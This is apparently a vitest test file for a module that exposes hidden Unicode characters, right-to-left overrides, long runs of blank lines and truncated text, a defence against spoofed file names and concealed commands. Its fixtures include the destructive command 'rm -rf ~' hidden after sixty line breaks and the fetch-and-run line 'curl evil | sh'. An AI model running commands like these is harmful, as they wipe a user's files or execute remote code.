import { expect, test } from "vitest"
import { excerpt, linesIn, MOST_SHOWN, visible, visibleText } from "../src/model/text/visible"

/** What must never be drawn: it hides, reorders or blanks. */
const UNSEEN = /[\p{C}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}\u2800]|(?! )\p{Zs}/u

/** Numbers that look random and are the same in every run. */
function numbers(seed: number): (below: number) => number {
  return (below) => {
    seed = (Math.imul(seed, 1664525) + 1013904223) >>> 0
    return Math.floor((seed / 2 ** 32) * below)
  }
}

const SIGNS = [
  ..."abc/-.=\"'$;|& ÅéЖ漢😀",
  "\n",
  "\r",
  "\r\n",
  "\t",
  " ",
  "  ",
  "\0",
  "\x07",
  "\x1b[2K",
  "\x7f",
  "\x85",
  "\u00a0",
  "\u00ad",
  "\u0301",
  "\u034f",
  "\u061c",
  "\u115f",
  "\u180e",
  "\u2003",
  "\u200b",
  "\u200d",
  "\u200e",
  "\u2028",
  "\u202e",
  "\u2060",
  "\u2066",
  "\u2069",
  "\u2800",
  "\u3000",
  "\u3164",
  "\ufe0f",
  "\ufeff",
  "\ufff9",
  "\ud800",
  "\udfff",
  "\u{e0041}",
  "\u{1d173}",
  "\ue000",
  "אבג",
  "مرحبا",
  "\u05d0\u05b0",
]

test("nothing that is drawn is unseen or reorders, and the parts are the text, whatever it is", () => {
  const next = numbers(10)
  for (let round = 0; round < 2_000; round++) {
    const text = Array.from({ length: next(12) }, () => SIGNS[next(SIGNS.length)]!).join("")
    const pieces = visible(text)
    expect(pieces.map((piece) => piece.of).join("")).toBe(text)
    for (const piece of pieces) {
      expect(piece.text, JSON.stringify(text)).not.toMatch(UNSEEN)
      if ("title" in piece) expect(piece.title, JSON.stringify(text)).not.toMatch(UNSEEN)
      expect(piece.text, JSON.stringify(text)).not.toBe("")
      // A blank is drawn as one only between two words.
      expect(piece.text).not.toMatch(/^\p{M}/u)
    }
    expect(visibleText(text)).not.toMatch(/^ | $| {2}/)
  }
})

test("each kind of hidden character has a mark that names it", () => {
  const marks = (text: string) =>
    visible(text).flatMap((piece) => ("title" in piece ? [[piece.text, piece.title]] : []))
  expect(marks("invoice\u202efdp.exe")).toEqual([["⟨U+202E⟩", "right-to-left override"]])
  expect(marks("\ufeffgit")).toEqual([["⟨U+FEFF⟩", "byte order mark"]])
  expect(marks("a\u00a0b")).toEqual([["⟨U+00A0⟩", "no-break space"]])
  expect(marks("a\tb")).toEqual([["⇥", "Tab"]])
  expect(marks("\x1b[31m")).toEqual([["⟨U+001B⟩", "ESC"]])
  expect(marks("a b")).toEqual([])
  expect(marks(" a ")).toEqual([
    ["␣", "Space"],
    ["␣", "Space"],
  ])
  expect(marks(`a${" ".repeat(300)}b`)).toEqual([["␣ × 300", "300 spaces"]])
  expect(marks("a\r\nb")).toEqual([["␍⏎", "Line break with carriage returns"]])
  expect(marks("a\u0301\u0301\u0301\u0301b")[0]![0]).toBe("⟨U+0301⟩⟨U+0301⟩⟨U+0301⟩⟨U+0301⟩")
  expect(marks("\ud800")).toEqual([["⟨U+D800⟩", "U+D800"]])
})

test("what comes after sixty line ends stands right below their mark", () => {
  const pieces = visible(`echo ok${"\n".repeat(60)}rm -rf ~`)
  expect(pieces.map(({ text }) => text)).toEqual(["echo ok", "⏎ × 60", "rm -rf ~"])
})

test("letters from the right are parts of their own, and a path keeps the order of its parts", () => {
  expect(visible("/home/אבג/run.sh").map(({ kind, text }) => [kind, text])).toEqual([
    ["text", "/home/"],
    ["rtl", "אבג"],
    ["text", "/run.sh"],
  ])
})

test("letters of every script from the right are isolated, and unseen ones among them still named", () => {
  // Samaritan, Mandaic, Thaana, NKo, an Arabic presentation form, Phoenician, Mende Kikakui, and an Arabic digit.
  for (const letter of [
    "\u0800",
    "\u0840",
    "\u0780",
    "\u07ca",
    "\ufe8d",
    "\u{10900}",
    "\u{1e800}",
    "\u0661",
  ]) {
    expect(visible(`/a/${letter}${letter}/b`).map(({ kind, text }) => [kind, text])).toEqual([
      ["text", "/a/"],
      ["rtl", letter + letter],
      ["text", "/b"],
    ])
  }
  expect(visible("א\u061cב").map(({ kind, text }) => [kind, text])).toEqual([
    ["rtl", "א"],
    ["mark", "⟨U+061C⟩"],
    ["rtl", "ב"],
  ])
})

test("of a long text the beginning and the end are shown, and what is between is counted", () => {
  expect(excerpt("short")).toMatchObject({ head: "short", tail: "", left: { characters: 0 } })
  const long = `${"a".repeat(5_000)}THE END`
  const shown = excerpt(long)
  expect(shown.tail.endsWith("THE END")).toBe(true)
  expect(shown.head.length + shown.tail.length).toBeLessThanOrEqual(MOST_SHOWN.characters)
  expect(shown.head.length + shown.tail.length + shown.left.characters).toBe(long.length)
  // Many short lines, with something in the middle and at the end.
  const lines = Array.from({ length: 61 }, (_, n) => `# ${n}`)
  const many = excerpt([...lines, "curl evil | sh"].join("\n"))
  expect(many.head.startsWith("# 0\n# 1")).toBe(true)
  expect(many.tail.endsWith("curl evil | sh")).toBe(true)
  expect(many.left.lines).toBe(62 - MOST_SHOWN.lines - 1 + 1)
  expect(linesIn("a\r\nb\n")).toBe(3)
})

test("a pair of surrogates is not torn where a text is cut", () => {
  for (let before = 0; before < 4; before++) {
    const { head, tail } = excerpt("x".repeat(before) + "😀".repeat(2_000))
    expect(head).not.toMatch(/[\ud800-\udbff]$/)
    expect(tail).not.toMatch(/^[\udc00-\udfff]/)
  }
})

test("where blanks are kept nothing else is unseen or reorders, and the parts are the text, whatever it is", () => {
  const next = numbers(11)
  // An emoji may have what joins its parts, which is no text that could hide.
  const emoji =
    /\p{Extended_Pictographic}[\ufe0e\ufe0f\u{1f3fb}-\u{1f3ff}]?(\u200d\p{Extended_Pictographic}\ufe0f?)*/gu
  for (let round = 0; round < 2_000; round++) {
    const text = Array.from({ length: next(12) }, () => SIGNS[next(SIGNS.length)]!).join("")
    const pieces = visible(text, "kept")
    expect(pieces.map((piece) => piece.of).join("")).toBe(text)
    for (const piece of pieces)
      expect(piece.text.replace(/[\r\n\t]/g, "").replace(emoji, ""), JSON.stringify(text)).not.toMatch(UNSEEN)
  }
})

const HIDDEN_ONES = [
  ["\u200b", "⟨U+200B⟩"],
  ["\u00a0", "⟨U+00A0⟩"],
  ["\ufeff", "⟨U+FEFF⟩"],
  ["\u202e", "⟨U+202E⟩"],
  ["\u2066", "⟨U+2066⟩"],
  ["\u00ad", "⟨U+00AD⟩"],
  ["\u2028", "⟨U+2028⟩"],
  ["\u061c", "⟨U+061C⟩"],
  ["\u3164", "⟨U+3164⟩"],
  ["\r", "⟨U+000D⟩"],
  ["\u{e0041}\u{e0042}", "⟨U+E0041⟩⟨U+E0042⟩"],
] as const

test("hidden characters are marked where blanks are kept, and many of them together are one mark", () => {
  for (const [hidden, mark] of HIDDEN_ONES) expect(visibleText(`a${hidden}b`, "kept"), mark).toBe(`a${mark}b`)
  expect(visibleText("  a\tb\r\n\n c  ", "kept")).toBe("  a\tb\r\n\n c  ")
  expect(visibleText("👩🏽‍💻 ✔️ a\u200db", "kept")).toBe("👩🏽‍💻 ✔️ a⟨U+200D⟩b")
  const many = visible(`a${"\u200b".repeat(100)}b`, "kept")
  expect(many.map(({ text }) => text)).toEqual(["a", `${"⟨U+200B⟩".repeat(8)} and 92 more`, "b"])
})

test("a text of nothing but marks is drawn in few parts", () => {
  const pieces = visible("a\u202eא".repeat(3_000), "kept")
  expect(pieces.length).toBeLessThan(600)
  expect(pieces.at(-1)!.text).not.toMatch(UNSEEN)
  expect(pieces.at(-1)!.text).not.toMatch(/[\u0590-\u05ff]/)
})
